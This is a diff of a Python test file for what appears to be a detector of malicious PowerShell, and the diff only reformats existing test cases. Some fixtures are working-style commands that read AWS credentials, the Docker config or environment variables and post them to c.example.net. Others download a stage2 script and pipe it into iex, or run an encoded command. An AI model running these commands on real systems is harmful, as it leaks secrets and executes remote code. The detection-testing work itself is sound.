@@ -16,15 +16,30 @@ BLOB = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYwAuAGUAeABhAG0AcABsAGUALgBuAGUAdAAvAHMA
 @pytest.mark.parametrize(
     ("code", "rule"),
     [
-        ("$p = Join-Path $env:USERPROFILE '.aws\\credentials'\n$c = Get-Content $p -Raw\n"
-         "Invoke-RestMethod -Uri 'https://c.example.net/in' -Method Post -Body $c\n", FLOW),
-        ("$body = @{ cfg = (Get-Content \"$HOME\\.docker\\config.json\" -Raw) } | ConvertTo-Json\n"
-         "try { irm -Uri https://c.example.net/check -Method Post -Body $body } catch { }\n", FLOW),
-        ("$all = Get-ChildItem env: | Out-String\nInvoke-WebRequest -Uri https://c.example.net/e -Method Post -Body $all\n", FLOW),
+        (
+            "$p = Join-Path $env:USERPROFILE '.aws\\credentials'\n$c = Get-Content $p -Raw\n"
+            "Invoke-RestMethod -Uri 'https://c.example.net/in' -Method Post -Body $c\n",
+            FLOW,
+        ),
+        (
+            '$body = @{ cfg = (Get-Content "$HOME\\.docker\\config.json" -Raw) } | ConvertTo-Json\n'
+            "try { irm -Uri https://c.example.net/check -Method Post -Body $body } catch { }\n",
+            FLOW,
+        ),
+        (
+            "$all = Get-ChildItem env: | Out-String\nInvoke-WebRequest -Uri https://c.example.net/e -Method Post -Body $all\n",
+            FLOW,
+        ),
         ("iwr https://c.example.net/stage2.ps1 -UseBasicParsing | iex\n", DOWNLOAD),
         ("$s = (New-Object Net.WebClient).DownloadString('https://c.example.net/a')\nInvoke-Expression $s\n", DOWNLOAD),
-        (f"$cfg = '{BLOB}'\nInvoke-Expression ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($cfg)))\n", DECODE),
-        (f"$raw = [Convert]::FromBase64String('{BLOB}')\n$cmd = [Text.Encoding]::Unicode.GetString($raw)\niex $cmd\n", DECODE),
+        (
+            f"$cfg = '{BLOB}'\nInvoke-Expression ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($cfg)))\n",
+            DECODE,
+        ),
+        (
+            f"$raw = [Convert]::FromBase64String('{BLOB}')\n$cmd = [Text.Encoding]::Unicode.GetString($raw)\niex $cmd\n",
+            DECODE,
+        ),
         (f"powershell.exe -NoProfile -EncodedCommand {BLOB}\n", DECODE),
     ],
 )
@@ -42,12 +57,12 @@ def test_the_flow_names_the_file_and_the_address():
     "code",
     [
         # A status report to the webhook the user configures, with a token from the environment in a header.
-        "$body = @{ text = \"build $env:BUILD_ID passed\" } | ConvertTo-Json\n"
-        "Invoke-RestMethod -Uri $env:TEAMS_WEBHOOK_URL -Method Post -Body $body -Headers @{ Authorization = \"Bearer $env:API_TOKEN\" }\n",
+        '$body = @{ text = "build $env:BUILD_ID passed" } | ConvertTo-Json\n'
+        'Invoke-RestMethod -Uri $env:TEAMS_WEBHOOK_URL -Method Post -Body $body -Headers @{ Authorization = "Bearer $env:API_TOKEN" }\n',
         # Reading the Docker config to list registries, sending nothing.
         "$cfg = Get-Content (Join-Path $env:USERPROFILE '.docker\\config.json') -Raw | ConvertFrom-Json\n$cfg.auths.PSObject.Properties.Name\n",
         # A local file posted to an API, and Invoke-Expression of a constant.
-        "$rows = Import-Csv .\\contacts.csv | ConvertTo-Json\nInvoke-RestMethod -Uri \"$env:CRM_URL/contacts\" -Method Post -Body $rows\n",
+        '$rows = Import-Csv .\\contacts.csv | ConvertTo-Json\nInvoke-RestMethod -Uri "$env:CRM_URL/contacts" -Method Post -Body $rows\n',
         "Invoke-Expression 'git --version'\nif ($env:OS -eq 'Windows_NT') { Write-Host windows }\n",
     ],
 )
@@ -64,7 +79,10 @@ def test_a_vendor_installer_documented_under_an_install_heading_is_a_note_and_in
 @pytest.mark.parametrize(
     "code",
     [
-        ("scripts/Clean.ps1", "if ($env:USERDNSDOMAIN -like '*.CORP.EXAMPLE' -and (Get-Date).Day -eq 28) { Write-Host x }\n"),
+        (
+            "scripts/Clean.ps1",
+            "if ($env:USERDNSDOMAIN -like '*.CORP.EXAMPLE' -and (Get-Date).Day -eq 28) { Write-Host x }\n",
+        ),
         ("scripts/Clean.ps1", "if ($env:COMPUTERNAME -eq 'BUILD-07') { Write-Host x }\n"),
         ("scripts/tool.py", "import os\nif os.environ.get('USERDOMAIN') == 'FABRIKAM':\n    print('x')\n"),
     ],
